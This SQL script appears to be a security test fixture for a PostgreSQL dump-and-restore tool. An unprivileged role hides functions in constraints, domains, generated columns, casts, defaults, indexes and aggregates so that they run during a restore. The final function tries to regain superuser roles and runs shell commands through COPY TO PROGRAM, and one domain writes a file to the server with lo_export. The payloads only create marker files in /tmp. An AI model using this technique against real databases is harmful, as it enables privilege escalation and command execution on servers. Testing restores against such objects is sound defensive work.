-- What a role without any privilege can put into a database, and therefore into a dump. Each way calls its functions.

CREATE ROLE eve NOLOGIN;
CREATE ROLE bystander NOLOGIN;
CREATE SCHEMA hostile AUTHORIZATION eve;
CREATE SCHEMA closed;
GRANT CREATE ON SCHEMA public TO eve;
SET ROLE eve;

-- The function is harmless until everything exists: otherwise it would run while the objects are created.
CREATE FUNCTION hostile.attack(how text) RETURNS bool LANGUAGE sql AS 'SELECT true';
CREATE FUNCTION hostile.accept(how text, i int) RETURNS bool LANGUAGE plpgsql AS
  $$ BEGIN RETURN hostile.attack(how) OR i > 0; END $$;
CREATE FUNCTION hostile.same(how text, i int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN PERFORM hostile.attack(how); RETURN i; END $$;

-- While rows are loaded.
CREATE TABLE hostile.checked (i int CHECK (hostile.accept('check', i)));
CREATE DOMAIN hostile.odd AS int CHECK (hostile.accept('domain', VALUE));
CREATE TABLE hostile.of_domain (i hostile.odd);
CREATE TABLE hostile.generated (i int, j int GENERATED ALWAYS AS (hostile.same('generated', i)) STORED);
CREATE TABLE hostile.parted (i int) PARTITION BY LIST (hostile.same('partition', i));
CREATE TABLE hostile.parted_some PARTITION OF hostile.parted FOR VALUES IN (1, 2, 3, 4, 5);

-- While a rule is added to existing rows. The function takes the table's row type, so that it is created after the table.
CREATE TABLE hostile.late (i int);
CREATE FUNCTION hostile.row_accept(hostile.late) RETURNS bool LANGUAGE plpgsql AS
  $$ BEGIN RETURN hostile.attack('late check'); END $$;
ALTER TABLE hostile.late ADD CONSTRAINT late CHECK (hostile.row_accept(late.*)) NOT VALID;
ALTER TABLE hostile.late VALIDATE CONSTRAINT late;
CREATE TYPE hostile.label AS ENUM ('1', '2');
CREATE FUNCTION hostile.number(hostile.label) RETURNS int LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN PERFORM hostile.attack('cast'); RETURN $1::text::int; END $$;
CREATE CAST (hostile.label AS int) WITH FUNCTION hostile.number(hostile.label) AS IMPLICIT;
CREATE TABLE hostile.parent (i int PRIMARY KEY);
CREATE TABLE hostile.child (l hostile.label REFERENCES hostile.parent);

-- While a definition is read.
CREATE DOMAIN hostile.constant AS int CHECK (hostile.accept('constant', VALUE));
CREATE TABLE hostile.defaults (i int, a hostile.constant[] DEFAULT '{1}');
CREATE VIEW hostile.shown AS SELECT '{2}'::hostile.constant[] AS a;
CREATE POLICY some_rows ON hostile.defaults USING (a <> '{3}'::hostile.constant[]);
CREATE INDEX chosen ON hostile.defaults (i) WHERE a <> '{4}'::hostile.constant[];
CREATE STATISTICS hostile.counted ON i, (a <> '{5}'::hostile.constant[]) FROM hostile.defaults;
CREATE TABLE hostile.folded (i int, j int GENERATED ALWAYS AS (i + hostile.same('folded', 1)) STORED);
CREATE TABLE hostile.ranges (k hostile.constant, i int) PARTITION BY RANGE (k);
CREATE TABLE hostile.ranges_some (k hostile.constant, i int, CHECK (i > hostile.same('attached', 0)));
ALTER TABLE hostile.ranges ATTACH PARTITION hostile.ranges_some FOR VALUES FROM (1) TO (9);
CREATE INDEX ranges_i ON hostile.ranges ((i + hostile.same('index', 1)));
CREATE FUNCTION hostile.sum(hostile.constant, int) RETURNS hostile.constant LANGUAGE sql IMMUTABLE AS 'SELECT 1::hostile.constant';
CREATE AGGREGATE hostile.summed(int) (sfunc = hostile.sum, stype = hostile.constant, initcond = '6');
-- Without its functions: the first makes a large object, the second writes it to the server's disk.
CREATE DOMAIN hostile.builtin AS int CHECK (CASE WHEN current_setting('is_superuser') = 'on' THEN query_to_xml(
  CASE VALUE WHEN 1 THEN $$ SELECT lo_from_bytea(4711, '1') $$ ELSE $$ SELECT lo_export(4711, '/tmp/pwned-builtin') $$ END,
  true, true, '') IS NOT NULL ELSE true END);
CREATE FUNCTION hostile.argument_1(a hostile.builtin[] DEFAULT '{1}') RETURNS int LANGUAGE sql AS 'SELECT 1';
CREATE FUNCTION hostile.argument_2(a hostile.builtin[] DEFAULT '{2}') RETURNS int LANGUAGE sql AS 'SELECT 2';
CREATE FUNCTION hostile.atomic(i int DEFAULT 5) RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT i + 1; END;
CREATE MATERIALIZED VIEW hostile.kept AS SELECT count(*), hostile.same('view', 1) AS i FROM hostile.checked;

INSERT INTO hostile.checked SELECT generate_series(1, 5);
INSERT INTO hostile.of_domain SELECT generate_series(1, 5);
INSERT INTO hostile.generated SELECT generate_series(1, 5);
INSERT INTO hostile.parted SELECT generate_series(1, 5);
INSERT INTO hostile.late SELECT generate_series(1, 5);
INSERT INTO hostile.parent VALUES (1), (2);
INSERT INTO hostile.child VALUES ('1'), ('2');
INSERT INTO hostile.defaults SELECT generate_series(1, 5);
INSERT INTO hostile.folded SELECT generate_series(1, 5);
INSERT INTO hostile.ranges SELECT n, n FROM generate_series(1, 5) n;
REFRESH MATERIALIZED VIEW hostile.kept;

-- An owner that lacks the privileges to load its own tables, which a superuser has.
RESET ROLE;
CREATE TABLE closed.journal (i int PRIMARY KEY);
ALTER TABLE closed.journal OWNER TO eve;
REVOKE INSERT, UPDATE, DELETE ON closed.journal FROM eve;
INSERT INTO closed.journal SELECT generate_series(1, 5);
CREATE TABLE closed.aside (i int PRIMARY KEY, d date);
ALTER TABLE closed.aside OWNER TO bystander;
INSERT INTO closed.aside SELECT generate_series(1, 5);
CREATE TABLE closed.own (i int PRIMARY KEY);
INSERT INTO closed.own SELECT generate_series(1, 5);
ALTER TABLE closed.journal ADD CONSTRAINT to_aside FOREIGN KEY (i) REFERENCES closed.aside,
  ADD CONSTRAINT to_own FOREIGN KEY (i) REFERENCES closed.own;
CREATE TABLE public.nestfleet_migrations (filename text PRIMARY KEY);

-- From here on the function attacks.
CREATE OR REPLACE FUNCTION hostile.attack(how text) RETURNS bool LANGUAGE plpgsql AS $$
DECLARE
  word text;
BEGIN
  RAISE LOG 'attack by % as % in %', how, current_user, session_user;
  FOREACH word IN ARRAY '{SELECT 1, RESET ROLE, RESET SESSION AUTHORIZATION, SET ROLE nestfleet, SET SESSION AUTHORIZATION nestfleet}'::text[]
  LOOP
    BEGIN
      EXECUTE word;
      EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'touch "/tmp/pwned-' || how || '"');
    EXCEPTION WHEN OTHERS THEN
      NULL;
    END;
  END LOOP;
  RETURN true;
END $$;
